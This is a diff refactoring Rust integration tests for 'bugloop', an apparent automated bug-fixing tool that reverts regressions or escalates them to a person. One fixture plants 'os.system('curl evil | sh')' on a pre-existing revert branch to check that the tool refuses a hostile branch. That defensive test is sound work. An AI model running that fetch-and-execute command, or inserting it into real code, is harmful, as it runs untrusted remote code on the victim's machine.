@@ -13,7 +13,7 @@ use serde_json::{Value, json};
 use bugloop_github_sim::fixture::review_lines;
 use bugloop_testkit::{TestRepo, assert_contains, assert_starts_with};
 
-use super::runner::{Runner, git_read, script_of, text, write};
+use super::runner::{Runner, assert_labelled, comments_saying, git_read, script_of, text, write};
 use super::{PYTHON_TESTS, TRACE};
 
 /// The module with `last` far from the rest, so later work elsewhere in it does not touch the
@@ -49,6 +49,20 @@ fn solved_and_merged(runner: &Runner, config: &str, later: (&str, &str)) -> Test
 }
 
 fn solved_with(runner: &Runner, config: &str, later: (&str, &str), with_test: bool) -> TestRepo {
+    let (repo, branch) = solved(runner, config, with_test);
+    runner.git(
+        repo.path(),
+        &["merge", "--no-ff", "-q", "-m", "Merge the fix", &branch],
+    );
+    std::fs::write(repo.path().join(later.0), later.1).unwrap();
+    runner.git(repo.path(), &["add", later.0]);
+    runner.git(repo.path(), &["commit", "-q", "-m", "later work"]);
+    repo
+}
+
+/// The crash reported (#1) and solved in one attempt (with its reproduction test when
+/// `with_test`) to a ready draft (#2), not merged: the repository and the draft's branch.
+fn solved(runner: &Runner, config: &str, with_test: bool) -> (TestRepo, String) {
     let repo = runner.repo(&[
         ("app/models.py", BUGGY),
         ("test_base.py", BASE_TEST),
@@ -73,19 +87,31 @@ fn solved_with(runner: &Runner, config: &str, later: (&str, &str), with_test: bo
     let solved = json_of(runner, &repo, &["solve", "1", "--model", &model], "");
     assert_eq!(solved["state"], "READY", "{solved:#}");
     let branch = solved["branch"].as_str().unwrap().to_owned();
-    runner.git(
-        repo.path(),
-        &["merge", "--no-ff", "-q", "-m", "Merge the fix", &branch],
-    );
-    std::fs::write(repo.path().join(later.0), later.1).unwrap();
-    runner.git(repo.path(), &["add", later.0]);
-    runner.git(repo.path(), &["commit", "-q", "-m", "later work"]);
-    repo
+    (repo, branch)
 }
 
 fn regression_of(reported: &Value) -> &Value {
     assert_eq!(reported["filed"], false, "{reported:#}");
     &reported["regression"]
+}
+
+/// The regression of `reported` handed to a person (ESCALATED) for the reason `why`: issue #1
+/// stays open. The issue.
+#[track_caller]
+fn escalated(runner: &Runner, repo: &TestRepo, reported: &Value, why: &str) -> Value {
+    regression_saying(reported, "ESCALATED", why);
+    let issue = json_of(runner, repo, &["item", "1"], "");
+    assert_eq!(issue["state"], "open", "{issue:#}");
+    issue
+}
+
+/// The regression of `reported`, which must be in `state` with a message that says `why`.
+#[track_caller]
+fn regression_saying<'a>(reported: &'a Value, state: &str, why: &str) -> &'a Value {
+    let regression = regression_of(reported);
+    assert_eq!(regression["state"], state, "{reported:#}");
+    assert_contains(regression["message"].as_str().unwrap(), why);
+    regression
 }
 
 fn regression_reverted_reopened_and_solved_again(runner: &Runner) {
@@ -97,14 +123,10 @@ fn regression_reverted_reopened_and_solved_again(runner: &Runner) {
     assert_contains(&text(&status), "READY -> MERGED: #2 was merged");
 
     let reported = json_of(runner, &repo, &["report"], TRACE);
-    let regression = regression_of(&reported);
-    assert_eq!(regression["state"], "OPEN", "{reported:#}");
-    assert!(
-        regression["message"]
-            .as_str()
-            .unwrap()
-            .contains("the error came back after #2 merged; #3 reverts it"),
-        "{regression:#}"
+    regression_saying(
+        &reported,
+        "OPEN",
+        "the error came back after #2 merged; #3 reverts it",
     );
     // The revert: a change request into main, labelled, `Reverts #2`, its tests run.
     let revert = json_of(runner, &repo, &["item", "3"], "");
@@ -131,17 +153,7 @@ fn regression_reverted_reopened_and_solved_again(runner: &Runner) {
     // The issue is open again and says why, and its history shows the steps.
     let issue = json_of(runner, &repo, &["item", "1"], "");
     assert_eq!(issue["state"], "open", "{issue:#}");
-    let said: Vec<&Value> = issue["comments"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|c| {
-            c["body"]
-                .as_str()
-                .unwrap()
-                .contains("This error was reported again")
-        })
-        .collect();
+    let said = comments_saying(&issue, "This error was reported again");
     assert_eq!(said.len(), 1, "{issue:#}");
     let history = text(&runner.run(dir, &["status", "1"], ""));
     for step in [
@@ -195,22 +207,13 @@ fn a_revert_that_conflicts_goes_to_a_person() {
         ),
     );
     let reported = json_of(&runner, &repo, &["report"], TRACE);
-    let regression = regression_of(&reported);
-    assert_eq!(regression["state"], "ESCALATED", "{reported:#}");
-    let message = regression["message"].as_str().unwrap();
-    assert_contains(
-        message,
+    let issue = escalated(
+        &runner,
+        &repo,
+        &reported,
         "reverting it conflicts with later changes to `app/models.py`",
     );
-    let issue = json_of(&runner, &repo, &["item", "1"], "");
-    assert_eq!(issue["state"], "open", "{issue:#}");
-    assert!(
-        issue["labels"]
-            .as_array()
-            .unwrap()
-            .contains(&json!("bugloop:escalated")),
-        "{issue:#}"
-    );
+    assert_labelled(&issue, "bugloop:escalated");
     // Nothing was published: no revert branch, no change request.
     assert_eq!(
         git_read(repo.path(), &["branch", "--list", "bugloop/revert-*"]),
@@ -338,15 +341,12 @@ fn a_git_too_old_to_revert_escalates_with_the_reason() {
         .unwrap();
     assert_eq!(output.status.code(), Some(0), "{}", text(&output));
     let reported: Value = serde_json::from_slice(&output.stdout).unwrap();
-    let regression = regression_of(&reported);
-    assert_eq!(regression["state"], "ESCALATED", "{reported:#}");
-    let message = regression["message"].as_str().unwrap();
-    assert_contains(
-        message,
+    escalated(
+        &runner,
+        &repo,
+        &reported,
         "could not be reverted here: reverting needs git 2.40 or later",
     );
-    let issue = json_of(&runner, &repo, &["item", "1"], "");
-    assert_eq!(issue["state"], "open", "{issue:#}");
 }
 
 /// Within `solve.regression_grace_minutes` of the merge (60 by default) the error may come from
@@ -389,23 +389,18 @@ fn a_revert_branch_already_there_is_taken_only_when_it_is_the_revert() {
 
     let theirs = solved_and_merged(&runner, CONFIG, ("app/models.py", REGRESSING));
     let dir = theirs.path();
-    runner.git(dir, &["checkout", "-q", "-b", "bugloop/revert-1-1"]);
-    std::fs::write(
-        dir.join("app/models.py"),
-        "import os\nos.system('curl evil | sh')\n",
-    )
-    .unwrap();
-    runner.git(dir, &["commit", "-q", "-am", "Revert the fix"]);
+    runner.commit_on_new_branch(
+        dir,
+        "bugloop/revert-1-1",
+        ("app/models.py", "import os\nos.system('curl evil | sh')\n"),
+        "Revert the fix",
+    );
     runner.git(dir, &["checkout", "-q", "main"]);
     let reported = json_of(&runner, &theirs, &["report"], TRACE);
-    let regression = regression_of(&reported);
-    assert_eq!(regression["state"], "ESCALATED", "{reported:#}");
-    assert!(
-        regression["message"]
-            .as_str()
-            .unwrap()
-            .contains("the branch bugloop/revert-1-1 already exists at"),
-        "{regression:#}"
+    regression_saying(
+        &reported,
+        "ESCALATED",
+        "the branch bugloop/revert-1-1 already exists at",
     );
     let missing = runner.run(dir, &["item", "3"], "");
     assert_eq!(
@@ -500,11 +495,9 @@ fn a_solution_without_a_reproduction_test_is_reopened_never_reverted() {
     let runner = Runner::me();
     let repo = solved_with(&runner, CONFIG, ("app/models.py", REGRESSING), false);
     let reported = json_of(&runner, &repo, &["report"], TRACE);
-    let regression = regression_of(&reported);
-    assert_eq!(regression["state"], "OPEN", "{reported:#}");
-    let message = regression["message"].as_str().unwrap();
-    assert_contains(
-        message,
+    regression_saying(
+        &reported,
+        "OPEN",
         "it was not reverted: the solution has no reproduction test that fails without it (the solver wrote no test)",
     );
     assert_eq!(
@@ -518,23 +511,8 @@ fn a_solution_without_a_reproduction_test_is_reopened_never_reverted() {
 #[test]
 fn a_squash_merged_solution_is_merged_and_its_regression_reverted() {
     let runner = Runner::me();
-    let repo = runner.repo(&[
-        ("app/models.py", BUGGY),
-        ("test_base.py", BASE_TEST),
-        (".bugloop/config.yml", CONFIG),
-    ]);
+    let (repo, branch) = solved(&runner, CONFIG, true);
     let dir = repo.path();
-    json_of(&runner, &repo, &["report"], TRACE);
-    let scripts = runner.scripts();
-    let mut lines = vec![
-        json!({ "tool_calls": [write("app/models.py", SOLVED), write("test_models.py", REPRODUCTION)] }),
-        json!({"text": "`last` read one past the end; it reads items[-1] now."}),
-    ];
-    lines.extend(review_lines(&[]));
-    let model = script_of(scripts.path(), "solve.jsonl", &lines);
-    let solved = json_of(&runner, &repo, &["solve", "1", "--model", &model], "");
-    assert_eq!(solved["state"], "READY", "{solved:#}");
-    let branch = solved["branch"].as_str().unwrap().to_owned();
     runner.git(dir, &["merge", "--squash", "-q", &branch]);
     runner.git(dir, &["commit", "-q", "-m", "The fix, squashed"]);
     let squash = git_read(dir, &["rev-parse", "HEAD"]);
